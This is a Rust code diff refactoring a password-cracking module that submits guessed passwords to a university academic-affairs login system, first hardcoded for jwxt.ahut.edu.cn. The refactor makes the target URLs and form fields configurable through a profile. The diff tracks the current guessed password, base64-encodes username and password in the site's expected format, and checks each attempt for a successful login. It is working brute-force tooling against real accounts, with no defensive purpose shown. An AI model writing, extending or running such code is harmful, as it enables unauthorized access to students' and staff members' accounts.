@@ -1,4 +1,6 @@
-use base64::{engine::general_purpose, Engine as _};
+use crate::error::{Result, ToolboxError};
+use crate::jwxt::{self, JwxtFormFields, JwxtProfile};
+
 #[derive(serde::Serialize, serde::Deserialize, Clone)]
 pub struct CrackProgress {
     pub current_password: String,
@@ -14,15 +16,17 @@ pub struct PasswordCracker {
     year: i32,
     login_url: String,
     success_url: String,
+    fields: JwxtFormFields,
 }
 
 impl PasswordCracker {
-    pub fn new(username: String, year: i32) -> Self {
+    pub fn new(username: String, year: i32, profile: &JwxtProfile) -> Self {
         PasswordCracker {
             username,
             year,
-            login_url: "http://jwxt.ahut.edu.cn/jsxsd/xk/LoginToXk".to_string(),
-            success_url: "http://jwxt.ahut.edu.cn/jsxsd/framework/xsMain.jsp".to_string(),
+            login_url: profile.login_url(),
+            success_url: profile.main_url(),
+            fields: profile.fields.clone(),
         }
     }
 
@@ -50,26 +54,20 @@ impl PasswordCracker {
     }
 
     pub fn encode_login_params(&self, plain_password: &str) -> String {
-        let username_bytes = self.username.as_bytes();
-        let username_encoded = general_purpose::STANDARD.encode(username_bytes);
-
-        let password_bytes = plain_password.as_bytes();
-        let password_encoded = general_purpose::STANDARD.encode(password_bytes);
-
-        format!("{}%%%{}", username_encoded, password_encoded)
+        jwxt::encode_login_params(&self.username, plain_password)
     }
 
     pub async fn try_password(
         &self,
         plain_password: &str,
         client: &reqwest::Client,
-    ) -> Result<bool, String> {
+    ) -> Result<bool> {
         let encoded_value = self.encode_login_params(plain_password);
 
         let params = [
-            ("userAccount", self.username.as_str()),
-            ("userPassword", ""),
-            ("encoded", encoded_value.as_str()),
+            (self.fields.login_account.as_str(), self.username.as_str()),
+            (self.fields.login_password.as_str(), ""),
+            (self.fields.login_encoded.as_str(), encoded_value.as_str()),
             ("pwdstr1", ""),
             ("pwdstr2", ""),
         ];
@@ -94,8 +92,11 @@ impl PasswordCracker {
                     Err(_) => Ok(false),
                 }
             }
-            Ok(Err(_)) => Err("Network error".to_string()),
-            Err(_) => Err("Timeout".to_string()),
+            Ok(Err(e)) => Err(ToolboxError::network("登录请求失败", e)),
+            Err(_) => Err(ToolboxError::Timeout {
+                message: "登录请求超时".to_string(),
+                details: None,
+            }),
         }
     }
 }